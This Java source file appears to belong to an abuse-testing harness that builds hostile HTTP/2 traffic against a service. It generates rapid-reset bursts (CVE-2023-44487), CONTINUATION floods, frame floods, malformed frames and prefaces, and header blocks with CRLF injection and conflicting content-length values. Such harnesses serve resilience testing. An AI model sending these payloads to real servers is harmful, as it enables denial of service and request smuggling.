package dev.retinagate.abuse;

import static dev.retinagate.abuse.Http2Frames.CONTINUATION;
import static dev.retinagate.abuse.Http2Frames.DATA;
import static dev.retinagate.abuse.Http2Frames.END_HEADERS;
import static dev.retinagate.abuse.Http2Frames.END_STREAM;
import static dev.retinagate.abuse.Http2Frames.HEADERS;
import static dev.retinagate.abuse.Http2Frames.PING;
import static dev.retinagate.abuse.Http2Frames.PRIORITY;
import static dev.retinagate.abuse.Http2Frames.RST_STREAM;
import static dev.retinagate.abuse.Http2Frames.SETTINGS;
import static dev.retinagate.abuse.Http2Frames.WINDOW_UPDATE;
import static dev.retinagate.abuse.Http2Frames.block;
import static dev.retinagate.abuse.Http2Frames.number;
import static dev.retinagate.abuse.Http2Frames.octets;
import static dev.retinagate.abuse.Http2Frames.post;
import static dev.retinagate.abuse.Noise.between;
import static dev.retinagate.abuse.Noise.bytes;
import static dev.retinagate.abuse.Noise.oneOf;
import static dev.retinagate.abuse.Noise.text;

import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

/** HTTP/2 with prior knowledge: bursts, floods, and frames that are none. */
final class Http2Attacks {

  /** More streams than a connection may have at a time, and more resets than it may send. */
  private static final int BURST = 250;

  private static final int FLOOD = 1_000;

  /** One frame's. */
  private static final int MAX_DATA = 16_000;

  private Http2Attacks() {}

  static List<Kind> kinds() {
    return List.of(
        new Kind("h2 resets", 40, BURST, Http2Attacks::resets),
        new Kind("h2 resets in bodies", 40, BURST, Http2Attacks::resetsInBodies),
        new Kind("h2 too many streams", 40, BURST, Http2Attacks::tooManyStreams),
        Kind.of("h2 floods", 40, Http2Attacks::flood),
        Kind.of("h2 unended headers", 80, Http2Attacks::unendedHeaders),
        Kind.of("h2 broken headers", 300, Http2Attacks::brokenHeaders),
        Kind.of("h2 forms", 300, Http2Attacks::form),
        Kind.of("h2 broken frames", 300, Http2Attacks::brokenFrames),
        Kind.of("h2 noise", 200, Http2Attacks::noise),
        Kind.of("h2 prefaces", 200, Http2Attacks::preface));
  }

  /** CVE-2023-44487: the work of a request for the price of two frames. */
  private static Attack resets(Random random) {
    Http2Frames frames = Http2Frames.begun();
    boolean ended = random.nextBoolean();
    for (int i = 0; i < BURST; i++) {
      int stream = 2 * i + 1;
      frames.frame(HEADERS, END_HEADERS | (ended ? END_STREAM : 0), stream, post());
      frames.cancel(stream);
    }
    return Http2Attack.of(frames.end());
  }

  /** The same while a picture comes, and holds memory and perhaps a place. */
  private static Attack resetsInBodies(Random random) {
    Http2Frames frames = Http2Frames.begun();
    int length = between(random, 100, 400);
    for (int i = 0; i < BURST; i++) {
      int stream = 2 * i + 1;
      frames.frame(HEADERS, END_HEADERS, stream, post("content-length", "100000"));
      frames.frame(DATA, 0, stream, bytes(random, length)).cancel(stream);
    }
    return Http2Attack.of(frames.end());
  }

  private static Attack tooManyStreams(Random random) {
    Http2Frames frames = Http2Frames.begun();
    if (random.nextBoolean()) {
      // Only who has acknowledged the settings is held to them.
      frames.frame(SETTINGS, Http2Frames.ACK, 0);
    }
    for (int i = 0; i < BURST; i++) {
      frames.frame(HEADERS, END_HEADERS, 2 * i + 1, post("content-length", "100000"));
    }
    return Http2Attack.of(frames.end());
  }

  private static Attack flood(Random random) {
    Http2Frames frames = Http2Frames.begun();
    frames.frame(HEADERS, END_HEADERS, 1, post());
    int what = random.nextInt(6);
    for (int i = 0; i < FLOOD; i++) {
      switch (what) {
        case 0 -> frames.frame(SETTINGS, 0, 0);
        case 1 -> frames.frame(PING, 0, 0, bytes(random, 8));
        case 2 -> frames.frame(DATA, 0, 1);
        case 3 -> frames.frame(PRIORITY, 0, 2 * i + 3, octets(0, 0, 0, 0, 1));
        case 4 -> frames.frame(WINDOW_UPDATE, 0, 0, number(1));
        default -> frames.frame(SETTINGS, 0, 0, octets(0, 4, 0, i, 0, 0));
      }
    }
    return Http2Attack.of(frames.end());
  }

  /** HEADERS and CONTINUATIONs without END_HEADERS (CERT VU#421644). */
  private static Attack unendedHeaders(Random random) {
    Http2Frames frames = Http2Frames.begun();
    frames.frame(HEADERS, 0, 1, post());
    int count = between(random, 1, 200);
    for (int i = 0; i < count; i++) {
      byte[] field = random.nextBoolean() ? block("x-" + i, "y".repeat(100)) : new byte[0];
      frames.frame(CONTINUATION, 0, 1, field);
    }
    return random.nextBoolean()
        ? Http2Attack.of(frames.end())
        : Http2Attack.abandoned(frames.unfinished());
  }

  private static Attack brokenHeaders(Random random) {
    byte[] block =
        oneOf(
            random,
            bytes(random, between(random, 1, 500)),
            block(),
            block(":method", "POST"),
            block(":method", "POST", ":scheme", "http"),
            block(":method", "POST", ":path", "/detect"),
            block(":method", "", ":scheme", "", ":path", ""),
            block(":method", "A B", ":scheme", "http", ":path", "/health"),
            block(":method", "CONNECT", ":authority", "elsewhere:443"),
            block(":method", "GET", ":scheme", "http", ":path", "http://elsewhere/models"),
            block(":method", "GET", ":scheme", "http", ":path", "/%"),
            block(":method", "GET", ":scheme", "http", ":path", "*"),
            block(":method", "GET", ":scheme", "http", ":path", "/a b\r\nX: y"),
            block(":method", "GET", ":scheme", "http", ":path", "/" + text(random, 60)),
            block(":method", "GET", ":method", "POST", ":scheme", "http", ":path", "/"),
            block(":status", "200", ":path", "/"),
            block("a", "b", ":method", "GET", ":scheme", "http", ":path", "/"),
            post(":nonsense", "x"),
            post("Upper-Case", "x"),
            post("transfer-encoding", "chunked"),
            post("connection", "close"),
            post("host", "a", "host", "b"),
            post("te", "gzip"),
            post("x\r\ny", "z"),
            post("x", "y\r\nz: 1"),
            post("x", "y\u0000"),
            post("", "x"),
            post("content-length", oneOf(random, "-1", "+5", "x", "99999999999999999999", "7")),
            post("content-length", "3", "content-length", "5"),
            post("content-type", "multipart/form-data; boundary=" + text(random, 20)),
            post("expect", text(random, 20)));
    Http2Frames frames = Http2Frames.begun().frame(HEADERS, END_HEADERS, 1, block);
    return Http2Attack.of(
        frames.frame(DATA, END_STREAM, 1, "hello".getBytes(StandardCharsets.US_ASCII)).end());
  }

  private static Attack form(Random random) {
    byte[] form = BodyAttacks.formBody(random).getBytes(StandardCharsets.ISO_8859_1);
    Http2Frames frames = Http2Frames.begun();
    frames.frame(HEADERS, END_HEADERS, 1, post("content-type", "multipart/form-data; boundary=B"));
    int sent = Math.min(form.length, MAX_DATA);
    return Http2Attack.of(frames.frame(DATA, END_STREAM, 1, Arrays.copyOf(form, sent)).end());
  }

  private static Attack brokenFrames(Random random) {
    Http2Frames frames = Http2Frames.begun();
    byte[] some = bytes(random, between(random, 1, 64));
    switch (random.nextInt(18)) {
      case 0 -> frames.frame(HEADERS, END_HEADERS, 0, post());
      case 1 -> frames.frame(HEADERS, END_HEADERS, 2, post());
      case 2 ->
          frames.frame(HEADERS, END_HEADERS, 5, post()).frame(HEADERS, END_HEADERS, 3, post());
      case 3 -> frames.frame(HEADERS, END_HEADERS | 8, 1, octets(200, 0));
      case 4 -> frames.frame(HEADERS, END_HEADERS | 0x20, 1, octets(0, 0, 0, 1, 1));
      case 5 -> frames.frame(DATA, 0, 1, some);
      case 6 -> frames.frame(DATA, 0, 0, some);
      case 7 -> frames.frame(RST_STREAM, 0, 0, some);
      case 8 -> frames.cancel(7);
      case 9 -> frames.frame(SETTINGS, 0, 1);
      case 10 -> frames.frame(SETTINGS, 0, 0, some);
      case 11 -> frames.frame(SETTINGS, Http2Frames.ACK, 0, some);
      case 12 -> frames.frame(PING, 0, 0, some);
      case 13 -> frames.frame(WINDOW_UPDATE, 0, 0, number(0));
      case 14 -> frames.frame(WINDOW_UPDATE, 0, 0, number(Integer.MAX_VALUE));
      case 15 -> frames.frame(CONTINUATION, END_HEADERS, 1, post());
      case 16 -> frames.frame(5, END_HEADERS, 1, some);
      default ->
          frames.header(between(random, 16_385, 1 << 24), random.nextInt(10), 0, 1).raw(some);
    }
    return Http2Attack.of(frames.end());
  }

  private static Attack noise(Random random) {
    Http2Frames frames = Http2Frames.begun();
    int count = between(random, 1, 30);
    for (int i = 0; i < count; i++) {
      byte[] payload = bytes(random, between(random, 0, 100));
      frames.frame(random.nextInt(256), random.nextInt(256), random.nextInt(5), payload);
    }
    return Http2Attack.of(frames.end());
  }

  private static Attack preface(Random random) {
    byte[] wrong =
        oneOf(
                random,
                "PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n",
                "PRI * HTTP/2.0\r\n\r\n\r\n",
                "PRI / HTTP/2.0\r\n\r\nSM\r\n\r\n",
                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + text(random, between(random, 9, 200)),
                "PRI * HT",
                "P")
            .getBytes(StandardCharsets.ISO_8859_1);
    return Http2Attack.abandoned(wrong);
  }
}
